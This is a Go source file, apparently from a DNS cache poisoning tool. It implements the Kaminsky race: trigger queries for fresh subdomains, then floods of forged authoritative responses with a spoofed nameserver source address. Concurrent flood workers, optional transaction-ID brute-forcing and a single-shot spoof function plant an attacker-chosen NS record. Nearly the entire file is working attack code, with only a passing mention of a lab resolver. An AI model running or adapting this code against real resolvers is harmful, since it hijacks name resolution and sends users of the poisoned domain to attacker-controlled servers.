package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/exp/rand"
)

// AttackParameters describes one attack run. Immutable once the run
// starts.
type AttackParameters struct {
	// TargetAddr is the resolver whose cache is being poisoned.
	TargetAddr net.IP
	// SpoofedAddrs are the real nameservers for the target domain; the
	// first one is used as the forged source address.
	SpoofedAddrs []net.IP
	// AttackerNS is the nameserver hostname the forged authority
	// section advertises for the target domain.
	AttackerNS   string
	TargetDomain string
	Duration     time.Duration
}

// AttackMetrics counts what the run actually emitted. The stats display
// polls these while the attack loop runs.
type AttackMetrics struct {
	Cycles       atomic.Uint64
	TriggersSent atomic.Uint64
	SpoofedSent  atomic.Uint64
}

// TriggerTransport emits a query without waiting for the reply.
// *Client implements it; tests substitute a recorder.
type TriggerTransport interface {
	SendNoWait(msg *Message) error
}

// Attack runs the Kaminsky race: each cycle queries the target resolver
// for a never-before-seen subdomain, then immediately floods forged
// authoritative answers for that subdomain, racing the genuine response
// from the real nameserver. Winning a race plants the attacker's NS
// record for the whole target domain in the resolver's cache.
//
// The tool cannot observe whether a given cycle won; success is checked
// out-of-band (query mode against the target resolver). The loop just
// keeps retiring fresh names until the deadline.
type Attack struct {
	params     AttackParameters
	config     *Config
	rng        *rand.Rand
	triggers   *TriggerGenerator
	spoof      SpoofTransport
	trigger    TriggerTransport
	answerAddr net.IP

	Metrics AttackMetrics
}

// NewAttack wires an attack run together. The spoof and trigger
// transports are injected so the orchestrator itself never needs
// elevated privileges; config must have passed Validate.
func NewAttack(params AttackParameters, config *Config, rng *rand.Rand, spoof SpoofTransport, trigger TriggerTransport) *Attack {
	return &Attack{
		params:     params,
		config:     config,
		rng:        rng,
		triggers:   NewTriggerGenerator(params.TargetDomain, rng),
		spoof:      spoof,
		trigger:    trigger,
		answerAddr: net.ParseIP(config.AnswerAddr),
	}
}

// Run executes trigger+flood cycles until the deadline. The deadline is
// only checked between cycles, so a burst in progress always completes
// and a zero duration still performs exactly one cycle.
//
// Per-cycle errors are logged and the loop moves on to a fresh name;
// ErrPermissionDenied aborts the whole run since no cycle can succeed
// without the spoof channel.
func (a *Attack) Run() error {
	start := time.Now()
	for {
		if err := a.cycle(); err != nil {
			if errors.Is(err, ErrPermissionDenied) {
				return err
			}
			appLogger.Warn("attack cycle: %v", err)
		}
		a.Metrics.Cycles.Add(1)
		if time.Since(start) >= a.params.Duration {
			return nil
		}
	}
}

func (a *Attack) cycle() error {
	name := a.triggers.Next()
	id := uint16(a.rng.Uint32())

	query, err := NewQuery(id, name)
	if err != nil {
		return err
	}
	// Build and encode the forged response before touching the network
	// so the flood starts the instant the trigger is away.
	response, err := NewSpoofedResponse(query, a.answerAddr, a.config.AnswerTTL,
		a.params.TargetDomain, a.params.AttackerNS, a.config.AuthorityTTL)
	if err != nil {
		return err
	}
	payload, err := response.Encode()
	if err != nil {
		return err
	}

	// Fire-and-forget: the genuine reply to this query is irrelevant,
	// only the outstanding-query state it creates at the resolver matters.
	if err := a.trigger.SendNoWait(query); err != nil {
		return fmt.Errorf("sending trigger for %s: %w", name, err)
	}
	a.Metrics.TriggersSent.Add(1)

	return a.flood(payload, id)
}

// flood blasts the forged response at the resolver from concurrent
// workers. All packets in the burst answer the same trigger and, unless
// brute-force mode is on, carry the trigger's own transaction ID: since
// we built the trigger ourselves the ID is known exactly, and repetition
// only serves to outrace network latency. With -brute-force-ids each
// packet instead takes the next ID from a guessed window, for resolvers
// assumed to rewrite the ID.
func (a *Attack) flood(payload []byte, id uint16) error {
	workers := a.config.FloodWorkers
	burst := a.config.BurstSize
	if workers > burst {
		workers = burst
	}

	errCh := make(chan error, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		lo := w * burst / workers
		hi := (w + 1) * burst / workers
		wg.Add(1)
		go func(lo, hi int) {
			defer wg.Done()
			// Each worker owns its buffer; the shared raw socket is safe
			// for interleaved independent datagrams.
			buf := append([]byte(nil), payload...)
			d := &SpoofedDatagram{
				SrcAddr: a.params.SpoofedAddrs[0],
				DstAddr: a.params.TargetAddr,
				SrcPort: uint16(a.config.SpoofedSrcPort),
				DstPort: uint16(a.config.TargetPort),
				Payload: buf,
			}
			for i := lo; i < hi; i++ {
				if a.config.BruteForceIDs {
					binary.BigEndian.PutUint16(buf[0:2], id+uint16(i))
				}
				if err := a.spoof.Send(d); err != nil {
					errCh <- err
					return
				}
				a.Metrics.SpoofedSent.Add(1)
			}
		}(lo, hi)
	}
	wg.Wait()
	close(errCh)

	var firstErr error
	for err := range errCh {
		if errors.Is(err, ErrPermissionDenied) {
			return err
		}
		if firstErr == nil {
			firstErr = err
		}
	}
	return firstErr
}

// SpoofOnce sends a single forged response claiming hostname resolves to
// answerAddr, with the authority section delegating the hostname's
// parent domain to attackerNS. This is spoof mode: one well-formed shot,
// no race.
func SpoofOnce(spoof SpoofTransport, config *Config, rng *rand.Rand,
	spoofedAddr, targetAddr, answerAddr net.IP, hostname, attackerNS string) error {

	query, err := NewQuery(uint16(rng.Uint32()), hostname)
	if err != nil {
		return err
	}
	// TTL 0 on both records so a lab resolver does not keep the entry
	// around between experiments.
	response, err := NewSpoofedResponse(query, answerAddr, 0, parentDomain(hostname), attackerNS, 0)
	if err != nil {
		return err
	}
	payload, err := response.Encode()
	if err != nil {
		return err
	}
	return spoof.Send(&SpoofedDatagram{
		SrcAddr: spoofedAddr,
		DstAddr: targetAddr,
		SrcPort: uint16(config.SpoofedSrcPort),
		DstPort: uint16(config.TargetPort),
		Payload: payload,
	})
}
